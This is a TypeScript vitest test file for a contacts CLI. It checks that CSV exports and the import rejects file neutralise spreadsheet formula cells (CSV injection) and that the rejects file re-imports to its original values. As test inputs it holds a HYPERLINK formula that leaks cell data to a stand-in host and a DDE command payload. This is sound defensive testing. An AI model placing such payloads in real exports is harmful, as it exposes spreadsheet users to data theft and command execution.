/**
 * Every CSV the CLI writes is safe to open in a spreadsheet: `directory list`, `status`, `plan` with
 * `--format csv` and the import's rejects file neutralise cells that start with = + - @ (OWASP), and
 * the tool reads its own files back to the original values (the rejects file, fixed, re-imports).
 */
import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import { describe, expect, it } from "vitest";
import { readDirectory } from "../../src/contacts/directory-store.fs.js";
import { workspacePaths } from "../../src/core/workspace.js";
import { copyExampleWorkspace, runInProcess } from "../helpers/cli.js";

const RUNS_AS_FORMULA = /^[ ]*[=+\-@\t\r]/;
const HOSTILE_NAME = '=HYPERLINK("http://evil.invalid/?x="&A1,"Click")';
const HOSTILE_REJECTED = "=cmd|' /C calc'!A0";

function expectSafe(csv: string): void {
  const cells = parse(csv, { relax_column_count: true }).flat();
  expect(cells.length).toBeGreaterThan(1);
  for (const cell of cells) expect(cell).not.toMatch(RUNS_AS_FORMULA);
}

describe("CSV exports and spreadsheet formulas", () => {
  it("directory list, status and plan --format csv and the rejects file neutralise formula cells; the rejects file re-imports exactly", async () => {
    const ws = await copyExampleWorkspace();
    const input = join(ws, "hostile.csv");
    await writeFile(
      input,
      stringify([
        ["country", "organisation", "name", "email", "phone"],
        ["CH", "@Office (example)", HOSTILE_NAME, "hostile@ofcom.ch.example", "+41 58 555 09 99"],
        ["", "-Nowhere", HOSTILE_REJECTED, "nobody@nowhere.example", "+1 555 0100"],
      ]),
    );
    const imported = await runInProcess(["directory", "import", input, "--format", "json"], {
      workspace: ws,
    });
    const report = JSON.parse(imported.stdout) as { added: number; rejected: number; rejectsFile: string };
    expect([report.added, report.rejected]).toEqual([1, 1]);

    const list = await runInProcess(["directory", "list", "--format", "csv"], { workspace: ws });
    expect(list.code).toBe(0);
    expectSafe(list.stdout);
    expect(list.stdout).toContain(`"'=HYPERLINK(""http://evil.invalid/?x=""&A1,""Click"")"`);

    const status = await runInProcess(["status", "wcit-2012", "--format", "csv"], { workspace: ws });
    expect(status.code).toBe(0);
    expectSafe(status.stdout);

    const plan = await runInProcess(["plan", "wcit-2012", "--format", "csv"], { workspace: ws });
    expect(plan.stdout).toContain("'=HYPERLINK");
    expectSafe(plan.stdout);

    const rejects = await readFile(report.rejectsFile, "utf8");
    expectSafe(rejects);
    // Fix the rejected row (give it a country) the way a spreadsheet saves it, and import it again.
    const table = parse(rejects);
    const header = table[0] ?? [];
    const row = table[1] ?? [];
    row[header.indexOf("country")] = "CA";
    await writeFile(report.rejectsFile, stringify(table));
    const again = await runInProcess(["directory", "import", report.rejectsFile, "--format", "json"], {
      workspace: ws,
    });
    expect((JSON.parse(again.stdout) as { added: number }).added).toBe(1);
    const { contacts } = await readDirectory(workspacePaths(ws).directory);
    expect(contacts.find((c) => c.email === "nobody@nowhere.example")).toMatchObject({
      organisation: "-Nowhere",
      name: HOSTILE_REJECTED,
      phone: "+1 555 0100",
    });
    expect(contacts.find((c) => c.email === "hostile@ofcom.ch.example")).toMatchObject({
      organisation: "@Office (example)",
      name: HOSTILE_NAME,
      phone: "+41 58 555 09 99",
    });
  });
});
